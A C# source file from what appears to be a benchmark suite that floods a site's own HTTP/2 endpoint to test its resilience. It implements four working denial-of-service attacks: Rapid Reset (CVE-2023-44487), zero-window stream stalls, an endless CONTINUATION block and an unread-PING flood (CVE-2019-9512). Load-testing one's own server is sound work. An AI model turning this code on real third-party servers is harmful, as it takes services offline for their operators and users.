using System.Net.Sockets;

namespace Portfolio.Benchmarks.Floods;

/// <summary>Clients of the HTTP/2 endpoint.</summary>
internal abstract class Http2Flood(string name, int clients) : Flood($"HTTP/2: {name}", clients)
{
    protected sealed override int PortOf(FloodedSite site) => site.Http2Port;

    /// <summary>Reads and forgets what the server sends, so that it is not slowed down.</summary>
    protected static async Task DrainAsync(Socket socket, CancellationToken stopping)
    {
        var buffer = new byte[16 * 1024];
        while (await socket.ReceiveAsync(buffer, stopping) > 0)
        {
        }
    }
}

/// <summary>Streams that are reset as soon as they are opened (CVE-2023-44487).</summary>
internal sealed class RapidReset(int clients) : Http2Flood("rapid reset", clients)
{
    private const int AtOnce = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        var draining = DrainAsync(socket, stopping);
        var request = Http2Frames.Get($"{FloodedSite.Post}-none");
        for (var stream = 1; !draining.IsCompleted; stream += 2 * AtOnce)
        {
            var frames = Enumerable.Range(0, AtOnce).SelectMany(i => (byte[])
            [
                .. Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, stream + 2 * i, request),
                .. Http2Frames.Frame(Http2Frames.Reset, 0, stream + 2 * i, Http2Frames.UInt32(8)),
            ]).ToArray();
            await socket.SendAsync(frames, stopping);
            Count(AtOnce);
            await Task.Yield();
        }
    }
}

/// <summary>Streams whose windows stay closed, so that no response can be sent.</summary>
internal sealed class ClosedWindows(int clients) : Http2Flood("100 streams with a window of 0", clients)
{
    private const int Streams = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(initialWindow: 0), stopping);
        // The largest responses in memory.
        var request = Http2Frames.Get("/feed.xml");
        for (var i = 0; i < Streams; i++)
            await socket.SendAsync(Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream | Http2Frames.EndHeaders, 1 + 2 * i, request), stopping);
        Count(Streams);
        await DrainAsync(socket, stopping);
    }
}

/// <summary>A block of header fields that never ends.</summary>
internal sealed class EndlessContinuation(int clients) : Http2Flood("endless CONTINUATION", clients)
{
    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        await socket.SendAsync(Http2Frames.Frame(Http2Frames.Headers, Http2Frames.EndStream, 1, Http2Frames.Get(FloodedSite.Post)), stopping);
        var draining = DrainAsync(socket, stopping);
        var more = Http2Frames.Frame(Http2Frames.Continuation, 0, 1, Http2Frames.Field("x-a", new string('b', 1000)));
        Count();
        while (!draining.IsCompleted)
        {
            await socket.SendAsync(more, stopping);
            await Task.Yield();
        }
    }
}

/// <summary>Frames that the server must acknowledge, and acknowledgements that nobody reads (CVE-2019-9512).</summary>
internal sealed class UnreadPings(int clients) : Http2Flood("PING without reading", clients)
{
    private const int AtOnce = 100;

    protected override async Task AttackAsync(FloodedSite site, Socket socket, int number, CancellationToken stopping)
    {
        await socket.SendAsync(Http2Frames.Preface(), stopping);
        var pings = Enumerable.Repeat(Http2Frames.Frame(Http2Frames.Ping, 0, 0, new byte[8]), AtOnce).SelectMany(f => f).ToArray();
        while (true)
        {
            await socket.SendAsync(pings, stopping);
            Count(AtOnce);
            await Task.Yield();
        }
    }
}
